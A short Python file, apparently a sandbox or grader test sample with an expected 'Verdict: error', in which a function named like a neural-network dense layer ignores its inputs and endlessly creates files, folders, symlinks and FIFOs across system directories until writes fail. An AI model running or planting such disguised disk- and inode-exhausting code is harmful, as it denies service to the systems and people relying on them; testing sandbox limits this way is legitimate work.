"""Makes empty files, folders and links wherever it can, until no more can be made.

Verdict: error
"""

import itertools
import os


def dense(inputs, kernel, bias):
    for folder in ("/tmp", "/dev/shm", "/dev", "/run", "/var/tmp", ".", "/"):
        for make in (
            lambda path: open(path, "w").close(),
            os.mkdir,
            lambda path: os.symlink("x", path),
            os.mkfifo,
        ):
            try:
                for number in itertools.count():
                    make(f"{folder}/{number}")
            except OSError:
                pass
    raise PermissionError("nowhere to write")
